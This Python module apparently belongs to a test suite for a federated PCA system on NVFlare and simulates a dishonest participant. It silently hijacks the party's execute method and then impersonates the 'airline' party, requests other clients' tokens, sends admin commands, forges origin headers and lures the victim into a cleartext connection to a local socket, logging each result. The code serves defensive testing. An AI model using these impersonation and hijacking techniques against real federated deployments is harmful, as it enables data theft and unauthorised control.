"""Runs at the start of every process of the dishonest party; in the process of a job it attacks, then answers.

What came of each attack goes to a file, one JSON object a line.
"""

import json
import os
import socket
import sys
import threading
import time
from pathlib import Path

from dkpca.network.nvflare import routes

routes.at_a_party = lambda name: None

VICTIM, SECONDS = "airline", 3


def attack(fl_ctx):
    from nvflare.apis.shareable import ReservedHeaderKey, Shareable
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.fuel.f3.cellnet.utils import new_cell_message
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import CellMessageHeaderKeys

    from dkpca.exchange.questions import StatisticsWanted
    from dkpca.network.envelopes import Request, encode_request

    cell, job = fl_ctx.get_engine().get_cell(), fl_ctx.get_job_id()
    changed = {}  # headers put into what is sent next

    def change(message):
        for key, value in changed.items():
            message.set_header(key, value)
        if MessageHeaderKey.CONN_URL in changed:
            message.remove_header(MessageHeaderKey.SERVER_TRANSIT_REQUIRED)

    cell.core_cell.add_outgoing_request_filter("*", "*", change)

    def send(channel, topic, target, payload, headers=None):
        message = new_cell_message(headers or {}, payload)
        reply = cell.send_request(channel, topic, target, message, timeout=SECONDS)
        return reply.get_header(MessageHeaderKey.RETURN_CODE) == "ok"

    def insist(what, attack):
        """Try until it succeeds or patience ends: the other party's part of the job may not run yet."""
        end = time.monotonic() + float(os.environ["DKPCA_PATIENCE"])
        while not (answered := attack()) and time.monotonic() < end:
            time.sleep(0.2)
        with Path(os.environ["DKPCA_ATTACKS"]).open("a") as file:
            file.write(json.dumps({"what": what, "answered": answered}) + "\n")

    question = Shareable()
    question["request"] = encode_request(Request("stolen", StatisticsWanted()))
    question.set_header(ReservedHeaderKey.TASK_NAME, "ask")
    question.set_header(ReservedHeaderKey.TASK_ID, "x")
    question.set_peer_props(fl_ctx.get_all_public_props())
    insist("ask the other party", lambda: send("aux_communication", "__do_task__", f"{VICTIM}.{job}", question))

    number = {CellMessageHeaderKeys.JOB_ID: job}
    insist("get the others' tokens", lambda: send("server_parent_listener", "get_clients", "server", {}, number))

    command = Message("scheduler.check_resource", {})
    command.set_header("job_id", job)
    insist("command the other party", lambda: send("admin", "admin", VICTIM, command))

    changed[MessageHeaderKey.ORIGIN] = f"{VICTIM}.{job}"
    heartbeat = Shareable()
    heartbeat.set_peer_props(fl_ctx.get_all_public_props())
    send("aux_communication", "__job_heartbeat__", f"server.{job}", heartbeat)
    changed.clear()

    with socket.create_server(("127.0.0.1", 0)) as lure:
        lure.settimeout(SECONDS)

        def somebody_connects():
            changed[MessageHeaderKey.CONN_URL] = f"grpc://127.0.0.1:{lure.getsockname()[1]}"
            send("aux_communication", "nothing", f"{VICTIM}.{job}", question)
            changed.clear()
            try:
                lure.accept()[0].close()
            except TimeoutError:
                return False
            return True

        insist("have the other party connect to it in clear", somebody_connects)


def wait_for_the_job():
    while "dkpca.network.nvflare.party" not in sys.modules or not hasattr(
        sys.modules["dkpca.network.nvflare.party"], "PartyExecutor"
    ):
        time.sleep(0.01)
    executor = sys.modules["dkpca.network.nvflare.party"].PartyExecutor
    answer, done = executor.execute, []

    def attack_then_answer(self, task_name, shareable, fl_ctx, abort_signal):
        if not done:
            done.append(True)
            attack(fl_ctx)
        return answer(self, task_name, shareable, fl_ctx, abort_signal)

    executor.execute = attack_then_answer


if "dkpca.network.nvflare.job" in sys.orig_argv:
    threading.Thread(target=wait_for_the_job, daemon=True).start()
